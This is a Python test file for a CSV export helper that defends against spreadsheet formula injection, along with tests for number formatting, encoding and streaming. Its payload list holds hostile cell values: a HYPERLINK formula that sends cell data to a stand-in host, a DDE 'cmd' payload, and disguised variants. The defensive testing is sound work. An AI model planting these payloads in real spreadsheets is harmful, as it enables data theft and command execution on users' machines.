"""Tables to take away: figures stay figures, and nothing in them is ever calculated by whoever opens them."""

import csv
import io
from decimal import Decimal

import pytest

from generations.web.sheets import amount, answer, dangerous, lines, safe

HARMFUL = [
    '=HYPERLINK("http://x.example/?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\ufe63" + "1",  # a small hyphen
    "\tplain",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("text", HARMFUL)
def test_a_formula_is_text(text: str):
    assert str(safe(text)).startswith("'")
    assert read("".join(lines(["Prompt"], [[text]])))[1][0].startswith("'")


@pytest.mark.parametrize("text", ["A red kite", "红色风筝", "1:1", "3 = 3", "'quoted'", "", "–", "e-mail@example.com", "#hash", "50 %"])
def test_other_text_stays_as_it_is(text: str):
    assert safe(text) == text
    assert not dangerous(text)


def test_figures_stay_figures():
    told = "".join(lines(["Left"], [[-5, -1.5, amount(-35_000), amount(165_160_000), 0]]))
    assert told.splitlines()[1] == "-5,-1.5,-0.035000,165.160000,0"


def test_nothing_is_an_empty_cell():
    assert read("".join(lines(["A", "B"], [[None, amount(None)]])))[1] == ["", ""]


def test_a_separator_of_another_country_begins_no_cell():
    told = "".join(lines(["Prompt"], [['kite";=1+1;"']]))
    assert told.splitlines()[1] == '"kite"";=1+1;"""'


def test_a_text_of_several_lines_is_one_cell():
    assert read("".join(lines(["Prompt"], [["one\r\ntwo", 3]])))[1] == ["one\r\ntwo", "3"]


def test_headings_are_made_safe_too():
    assert read("".join(lines(["=1+1"], [])))[0] == ["'=1+1"]


def test_spreadsheets_are_told_how_it_is_written():
    response = answer("团队 usage", ["名"], [["值"]])
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; ")
    assert "no-store" in response["Cache-Control"]


def test_it_is_written_while_it_is_sent():
    asked = []

    def rows():
        for number in range(1_000):
            asked.append(number)
            yield [number]

    pieces = iter(answer("many", ["Number"], rows()).streaming_content)
    next(pieces)
    assert 0 < len(asked) < 300


def test_money_loses_nothing():
    assert [amount(micro) for micro in (1, 35_000, 12_345_678_901)] == [Decimal("0.000001"), Decimal("0.035"), Decimal("12345.678901")]
